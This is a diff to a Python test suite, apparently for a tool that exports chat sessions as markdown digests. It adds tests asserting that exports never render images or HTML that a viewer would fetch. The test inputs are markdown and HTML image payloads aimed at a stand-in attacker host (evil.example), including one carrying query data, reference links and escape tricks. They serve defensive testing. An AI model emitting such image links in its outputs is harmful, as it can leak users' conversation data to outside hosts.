@@ -52,6 +52,11 @@ markdown_texts = st.lists(
             "](",
             "|",
             "\n|-|-|\n",
+            "!",
+            "[",
+            "![a](https://evil.example/b)",
+            "![a][r]",
+            "\n\n[r]: https://evil.example/c\n\n",
         ]
     )
 ).map("".join)
@@ -179,7 +184,10 @@ def test_any_text_of_others_stays_inside_its_place_in_markdown(text: str) -> Non
     tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(whole)
     assert [token.tag for token in tokens if token.level == 0][-4:] == ["h2", "h2", "p", "p"]
     assert tokens[-2].content == "last words"
-    assert not [each for token in tokens for each in (token, *(token.children or ())) if each.type in ("html_block", "html_inline")]
+    # Neither a tag nor an image, which a viewer would fetch.
+    assert not [
+        each for token in tokens for each in (token, *(token.children or ())) if each.type in ("html_block", "html_inline", "image")
+    ]
 
 
 @pytest.mark.parametrize(
@@ -269,6 +277,27 @@ def test_a_digest_tells_what_was_asked_what_came_of_it_and_which_checks_ran() ->
     assert "Cost: $1.50" in text
     assert "SECRET" not in text
     assert "`ls`" not in text
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "![stolen](https://evil.example/x.png?d=1)",
+        "![stolen][there]\n\n[there]: https://evil.example/x.png",
+        "a\n\n| ![stolen](https://evil.example/x.png) |\n|-|\n",
+        "\\\\![stolen](https://evil.example/x.png)",
+        "[![stolen](https://evil.example/x.png)](https://evil.example)",
+        "``![stolen](https://evil.example/x.png)`",
+        '<img src="https://evil.example/x.png">',
+    ],
+)
+def test_an_export_makes_no_reader_fetch_an_image(image: str) -> None:
+    rows = thread([message(image, "user"), message(image), message(image, "user"), message(image)])
+    session = SESSION | {"note": image, "title": image}
+    for text in (as_digest(session, rows, ZoneInfo("UTC")), markdown(*[message(image, "user"), message(image)])):
+        shown = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
+        assert "<img" not in shown
+        assert "stolen" in shown or "&lt;img" in shown
 
 
 def test_a_digest_fits_a_pull_request_and_has_no_secret() -> None:
